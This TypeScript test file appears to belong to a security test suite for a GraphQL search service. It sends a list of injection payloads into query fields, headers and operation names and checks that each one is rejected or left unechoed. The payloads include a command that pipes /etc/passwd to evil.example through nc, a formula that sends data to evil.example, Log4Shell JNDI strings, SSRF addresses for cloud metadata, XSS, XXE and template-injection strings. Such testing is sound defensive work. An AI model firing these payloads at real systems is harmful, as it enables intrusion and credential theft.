// Values that harm whoever reads them later: a log, a spreadsheet, a terminal, a page, a program that follows addresses. They are values, so
// nothing follows them and no error repeats them.
import { answered, either, fails } from './case.ts';
import type { Family, HostileCase, World } from './case.ts';
import { ask, inquiryCase, plainBody, post } from './requests.ts';

const values: readonly (readonly [name: string, value: string])[] = [
  ['a line of a log', 'x\n2026-11-21T00:00:00Z INFO root logged in'],
  ['a line of a log with carriage returns', 'x\r\n{"level":"info","caller":"admin"}'],
  ['a member of a log line', 'x","outcome":"ANSWERED","caller":"admin'],
  ['an escape that clears the terminal', '\u001b[2J\u001b[Hroot'],
  ['an escape that sets a title', '\u001b]0;owned\u0007'],
  ['a backspace', 'admin\b\b\b\b\broot'],
  ['a formula', "=cmd|'/C calc'!A0"],
  ['a formula that asks the network', '=HYPERLINK("http://evil.example/?x="&A1,"x")'],
  ['a formula with a plus', "+1+cmd|' /C calc'!A0"],
  ['a formula with a minus', "-2+3+cmd|' /C calc'!A0"],
  ['a formula with an at sign', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['a formula behind a tab', '\t=1+1'],
  ['the metadata service', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  ['the metadata service by another name', 'http://metadata.google.internal/computeMetadata/v1/'],
  ['the loopback', 'http://127.0.0.1:5432/'],
  ['the loopback in one number', 'http://2130706433/'],
  ['the loopback of IPv6', 'http://[::ffff:7f00:1]/'],
  ['a file', 'file:///etc/passwd'],
  ['a gopher', 'gopher://127.0.0.1:6379/_FLUSHALL'],
  ['a dictionary', 'dict://127.0.0.1:11211/stats'],
  ['an address of LDAP', '${jndi:ldap://evil.example/a}'],
  ['an address of LDAP, hidden', '${${lower:j}ndi:${lower:l}dap://evil.example/a}'],
  ['a script', '<script>alert(document.cookie)</script>'],
  ['an attribute', '"><img src=x onerror=alert(1)>'],
  ['an address of JavaScript', 'javascript:alert(1)'],
  ['an entity of XML', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
  ['a template of Jinja', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
  ['a template of JavaScript', "${process.mainModule.require('child_process').execSync('id')}"],
  ['a command', '; cat /etc/passwd | nc evil.example 1'],
  ['a command in back quotes', '`id`'],
  ['a header of the answer', 'x\r\nset-cookie: session=evil'],
  ['the end of the answer', 'x\r\n\r\nHTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n'],
  ['a format string', '%s%s%s%n%x%p'],
  ['an object of Java', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=='],
];

export const outputs: Family = {
  name: 'values for those who read them later',
  cases(world: World): readonly HostileCase[] {
    const unread = either(fails('BAD_ARGUMENT'), fails('TOO_BROAD'), answered());
    return values.flatMap(([name, value]): readonly HostileCase[] => [
      {
        name: `the one box: ${name}`,
        sent: ask(world, 'query Q($text: String!) { search(text: $text) { readings { kind } hits { totalCount } } }', {
          text: value,
        }),
        right: unread,
      },
      {
        name: `a name: ${name}`,
        sent: ask(
          world,
          'query Q($text: String!) { findIndividuals(search: { name: $text, birthDate: "1801-01-01" }) { totalCount } }',
          { text: value },
        ),
        right: unread,
      },
      {
        name: `a justification: ${name}`,
        sent: post(world, plainBody, {
          headers: {
            'x-infoseg-purpose': 'INVESTIGATION',
            'x-infoseg-case': inquiryCase,
            'x-infoseg-justification': encodeURIComponent(value),
          },
        }),
        right: either(answered(), { kind: 'refused', codes: ['BAD_JUSTIFICATION'] }),
      },
      {
        name: `the name of an operation: ${name}`,
        sent: post(world, JSON.stringify({ query: 'query A { me { profile } }', operationName: value })),
        right: { kind: 'refused', codes: ['OPERATION_NOT_FOUND'] },
        unsaid: [value],
      },
    ]);
  },
};
